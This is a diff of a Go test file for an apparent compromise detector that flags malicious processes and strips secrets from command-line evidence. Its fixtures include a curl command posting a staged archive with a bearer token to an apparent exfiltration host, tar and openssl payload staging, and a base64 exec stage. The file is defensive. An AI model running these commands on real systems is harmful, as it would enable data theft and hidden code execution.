@@ -75,14 +75,14 @@ func TestProcessIndicators(t *testing.T) {
 		{name: "curl exfil with a bearer header and a token variable",
 			p: Process{PID: 106, Exe: "/usr/bin/curl", Argv: []string{"curl", "-s", "-o", "/dev/null", "-X", "POST", "https://models.litellm.cloud/",
 				"-H", "X-Filename: tpcp.tar.gz", "-H", "Authorization: Bearer sk-live-SECRET1", "--data-binary", "@/tmp/tmpx/tpcp.tar.gz"}},
-			want: []string{"process/proc-curl-exfil/106/critical"}, text: "X-Filename: tpcp.tar.gz", not: "SECRET1"},
+			want: []string{"process/proc-curl-exfil/106/critical"}, text: "tpcp.tar.gz", not: "SECRET1"},
 		{name: "tar staging",
 			p:    Process{PID: 107, Exe: "/usr/bin/tar", Argv: []string{"tar", "-czf", "/tmp/tmpab/tpcp.tar.gz", "-C", "/tmp/tmpab", "payload.enc", "session.key.enc"}},
 			want: []string{"process/proc-tar-staging/107/critical"}},
-		{name: "openssl keeps the indicator-bearing -pass value",
+		{name: "openssl shows the indicator-bearing -pass value as the pack string",
 			p: Process{PID: 108, Exe: "/usr/bin/openssl", Argv: []string{"openssl", "enc", "-aes-256-cbc", "-in", "/tmp/tmpab/c", "-out", "/tmp/tmpab/payload.enc",
 				"-pass", "file:/tmp/tmpab/session.key", "-pbkdf2"}},
-			want: []string{"process/proc-openssl-staging/108/critical"}, text: "-pass file:/tmp/tmpab/session.key"},
+			want: []string{"process/proc-openssl-staging/108/critical"}, text: "…session.key", not: "tmpab"},
 		{name: "systemctl enabling sysmon",
 			p:    Process{PID: 109, Exe: "/usr/bin/systemctl", Argv: []string{"systemctl", "--user", "enable", "--now", "sysmon.service"}},
 			want: []string{"process/proc-systemctl-sysmon/109/high"}},
@@ -132,8 +132,8 @@ func TestPthChildAttributes(t *testing.T) {
 	if f.Environment != "/home/alice/.venv" || f.User != "alice" || f.Evidence.Time == nil || !f.Evidence.Time.Equal(start) {
 		t.Errorf("env %q user %q time %v", f.Environment, f.User, f.Evidence.Time)
 	}
-	if len(f.Evidence.Text) > 400 || !strings.Contains(f.Evidence.Text, "bytes)") {
-		t.Errorf("long argument not cut: %d bytes: %q", len(f.Evidence.Text), f.Evidence.Text)
+	if len(f.Evidence.Text) > 400 || strings.Contains(f.Evidence.Text, "QUFB") {
+		t.Errorf("the stage's text reached the evidence: %d bytes: %q", len(f.Evidence.Text), f.Evidence.Text)
 	}
 }
 
@@ -197,8 +197,8 @@ func TestConnections(t *testing.T) {
 	if strings.Join(got, ",") != want {
 		t.Fatalf("got %v, want %s", got, want)
 	}
-	if strings.Contains(fs[1].Evidence.Text, "hunter2") || !strings.Contains(fs[1].Evidence.Text, "--password "+Redacted) {
-		t.Errorf("evidence not redacted: %q", fs[1].Evidence.Text)
+	if fs[1].Evidence.Text != "python3 … --password …" {
+		t.Errorf("evidence %q, want only the program and option names", fs[1].Evidence.Text)
 	}
 }
 
@@ -284,26 +284,41 @@ func TestUnits(t *testing.T) {
 	}
 }
 
-func TestRedact(t *testing.T) {
+// TestEvidence: a command line reaches the report only as the program's
+// name, option names and the pack's own strings; every secret-shaped and
+// ordinary value alike is "…" (no deny-list decides what is secret).
+func TestEvidence(t *testing.T) {
+	stage := "import base64; exec(base64.b64decode('aW1wb3J0IHN1YnByb2Nlc3M='))"
 	tests := []struct {
 		argv []string
 		keep []string
 		want string
 	}{
-		{[]string{"mysql", "--password", "s3cret", "-h", "db"}, nil, "mysql --password [REDACTED] -h db"},
-		{[]string{"tool", "--api-key=abc123", "--verbose"}, nil, "tool --api-key=[REDACTED] --verbose"},
-		{[]string{"env", "GITHUB_TOKEN=ghp_xxx", "AWS_SECRET_ACCESS_KEY=zzz", "HOME=/root", "python3"}, nil, "env GITHUB_TOKEN=[REDACTED] AWS_SECRET_ACCESS_KEY=[REDACTED] HOME=/root python3"},
-		{[]string{"git", "clone", "https://user:tok@github.com/o/r"}, nil, "git clone https://[REDACTED]@github.com/o/r"},
-		{[]string{"curl", "-u", "admin:pw", "https://x"}, nil, "curl -u admin:[REDACTED] https://x"},
-		{[]string{"curl", "-H", "Authorization: Bearer abc", "-H", "X-Filename: tpcp.tar.gz"}, nil, "curl -H 'Authorization: [REDACTED]' -H 'X-Filename: tpcp.tar.gz'"},
-		{[]string{"openssl", "enc", "-pass", "file:/tmp/t/session.key"}, []string{"session.key"}, "openssl enc -pass file:/tmp/t/session.key"},
-		{[]string{"openssl", "enc", "-pass", "pass:hunter2"}, []string{"session.key"}, "openssl enc -pass [REDACTED]"},
-		{[]string{"python", "-c", "it's"}, nil, `python -c "it's"`},
-		{[]string{"sh", "-c", `echo "$HOME" it's`}, nil, `sh -c 'echo "$HOME" it'\''s'`},
+		{[]string{"mysql", "--password", "s3cret", "-h", "db"}, nil, "mysql --password … -h …"},
+		{[]string{"mysql", "-ps3cret", "-uroot"}, nil, "mysql …"},
+		{[]string{"tool", "--api-key=abc123", "--verbose"}, nil, "tool --api-key=… --verbose"},
+		{[]string{"env", "GITHUB_TOKEN=ghp_xxx", "AWS_SECRET_ACCESS_KEY=zzz", "HOME=/root", "python3"}, nil, "env …"},
+		{[]string{"git", "clone", "https://user:tok@github.com/o/r"}, nil, "git …"},
+		{[]string{"curl", "-u", "admin:pw", "https://x"}, nil, "curl -u …"},
+		{[]string{"curl", "-H", "Authorization: Bearer abc", "-d", "@/tmp/tpcp.tar.gz", "https://u:p@models.litellm.cloud/x"},
+			[]string{"tpcp.tar.gz", "models.litellm.cloud"}, "curl -H … -d …tpcp.tar.gz -d_none"},
+		{[]string{"openssl", "enc", "-pass", "file:/tmp/t/session.key"}, []string{"session.key"}, "openssl … …session.key"},
+		{[]string{"openssl", "enc", "-pass", "pass:hunter2"}, []string{"session.key"}, "openssl …"},
+		{[]string{"/home/alice/.venv/bin/python3.11", "-c", stage}, []string{"exec(base64.b64decode("},
+			"python3.11 -c …exec(base64.b64decode(…"},
+		{[]string{"/tmp/x y/ev il", "--token=ghp_1"}, nil, "… --token=…"},
+		{[]string{"python3", "--db=" + "postgres://u:pw@h/models.litellm.cloud"}, []string{"models.litellm.cloud"}, "python3 --db=…models.litellm.cloud"},
 	}
+	tests[6].want = "curl -H … -d …tpcp.tar.gz …models.litellm.cloud…"
 	for _, tc := range tests {
-		if got := Redact(tc.argv, tc.keep); got != tc.want {
-			t.Errorf("Redact(%q) =\n %s\nwant\n %s", tc.argv, got, tc.want)
+		got := Evidence(tc.argv, tc.keep)
+		if got != tc.want {
+			t.Errorf("Evidence(%q) =\n %s\nwant\n %s", tc.argv, got, tc.want)
+		}
+		for _, secret := range []string{"s3cret", "abc123", "ghp_", "tok@", "admin:pw", "Bearer", "hunter2", "u:p@", "u:pw", "aW1w", "alice", "zzz"} {
+			if strings.Contains(got, secret) {
+				t.Errorf("Evidence(%q) = %q shows %q", tc.argv, got, secret)
+			}
 		}
 	}
 }
